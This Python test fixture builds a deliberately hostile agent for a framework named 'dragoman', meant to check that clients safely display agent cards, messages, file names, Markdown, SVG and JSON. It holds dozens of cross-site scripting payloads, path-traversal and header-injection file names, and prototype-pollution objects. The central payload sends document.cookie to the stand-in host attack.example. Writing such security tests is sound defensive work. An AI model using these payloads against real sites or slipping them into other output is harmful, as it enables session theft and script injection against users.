"""What a hostile agent puts into its card, messages, file names, Markdown, SVG and JSON."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from dragoman import Agent, Artifact, Part, Turn

RUN = "window.attacked=(window.attacked||0)+1;fetch('http://attack.example/'+document.cookie)"
OUT = "http://attack.example/x"

HTML = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={OUT}.png>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{OUT}"></object>',
    f'<embed src="{OUT}.swf">',
    f'<link rel=stylesheet href="{OUT}.css">',
    f"<style>@import url({OUT}.css);*{{background:url({OUT}.gif)}}</style>",
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f"<audio src={OUT}.mp3 autoplay>",
    f'<meta http-equiv=refresh content="0;url={OUT}">',
    f'<base href="{OUT}/">',
    f'<form action="{OUT}"><input autofocus onfocus="{RUN}"></form>',
    f'<marquee onstart="{RUN}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><img src=x onerror="{RUN}"></template>',
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f'<!--><img src=x onerror="{RUN}">-->',
    f'<a href="javascript:{RUN}" id=attack>x</a>',
    f'<input type=image src={OUT}.png onerror="{RUN}">',
    "{{constructor.constructor('window.attacked=1')()}}",
    "${(()=>{window.attacked=1})()}",
    f"\u202e<script>{RUN}</script>",
    f"\x00<scr\x00ipt>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](java\nscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    "[x](//attack.example/x)",
    "[x](http://user:pass@attack.example/)",
    f"![x]({OUT}.png)",
    f"![x](javascript:{RUN})",
    f"![x][a]\n\n[a]: {OUT}.png",
    f"<javascript:{RUN}>",
    f'[x]({OUT}"onmouseover="{RUN}")',
    f"[`x`](javascript:{RUN})",
    f'# <img src=x onerror="{RUN}">',
    f"- <script>{RUN}</script>",
    f'> <svg onload="{RUN}">',
    f"| a | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
    f"```html\n<script>{RUN}</script>\n```",
    f"**<script>{RUN}</script>**",
    f"[x](blob:{RUN})",
    "[x](file:///etc/passwd)",
    "[" * 500 + "x" + "](javascript:1)" * 500,
    "*" * 5000,
    "`" * 3000 + "x",
)
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{OUT}.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns="
    f"'http://www.w3.org/1999/xhtml' src='javascript:{RUN}'/></foreignObject></svg>",
    f"<?xml-stylesheet href='{OUT}.xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
)
NAMES = (
    "../../../etc/passwd",
    "x.png\r\nset-cookie: attacked=1",
    'a";filename="evil.html',
    "evil.html",
    "\u202egnp.exe",
    f'<img src=x onerror="{RUN}">.png',
    "__proto__",
    "/" * 300,
)
JSON: tuple[Any, ...] = (
    {"__proto__": {"attacked": 1}, "constructor": {"prototype": {"attacked": 1}}},
    {f"<script>{RUN}</script>": f'<img src=x onerror="{RUN}">'},
    {"html": {"__html": f"<script>{RUN}</script>"}, "dangerouslySetInnerHTML": {"__html": "x"}},
    {"type": "script", "props": {"children": RUN}, "key": None, "ref": None, "constructor": None},
    [[[[[[[[[[[[[[[[[[[["deep"]]]]]]]]]]]]]]]]]]]],
    {"$schema": OUT, "$ref": OUT, "properties": {"x": {"$ref": "#/properties/x"}}},
)


def parts() -> Iterator[tuple[str, Part]]:
    """Every payload as a part, with a hostile name."""
    for text in (*HTML, *MARKDOWN):
        yield text[:200], Part(text=text)
    for text in HTML:
        yield "plain", Part(text=text, media_type="text/html", filename=text[:200])
        yield "data", Part(data={text: [text, {text: text}]})
        yield "link", Part(url=f"javascript:{RUN}", filename=text[:100], media_type=text[:100])
    for text in SVG:
        yield "svg", Part(text=text, media_type="image/svg+xml")
        for kind in ("image/svg+xml", "image/png", "text/html"):
            yield "file", Part(raw=text.encode(), media_type=kind, filename="picture.svg")
    for name in NAMES:
        yield name, Part(raw=b"<script>x</script>", filename=name, media_type="text/html")
        yield name, Part(raw=base64.b64decode(PIXEL), filename=name, media_type="image/png")
    for value in JSON:
        yield "json", Part(data=value)


PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Er"
    "kJggg=="
)
COUNT = sum(1 for _ in parts())


def hostile() -> Agent:
    """An agent that attacks whoever looks at it."""
    agent = Agent(
        f"Evil </title>{HTML[0]}",
        description="\n\n".join((*HTML[:20], *MARKDOWN[:10])),
        version=HTML[1],
        key="evil",
        icon_url=f"{OUT}/icon.svg",
        documentation_url=f"javascript:{RUN}",
    )

    @agent.skill(name=HTML[3], tags=[HTML[4]], examples=[HTML[5], MARKDOWN[0]])
    async def attack(turn: Turn) -> Any:
        """<script>window.attacked=1</script>"""
        for index, (name, part) in enumerate(parts()):
            artifact = Artifact(artifact_id=f"{index}", name=name, description=name, parts=(part,))
            yield artifact
        yield turn.ask(f"{HTML[0]} {MARKDOWN[0]}")

    return agent
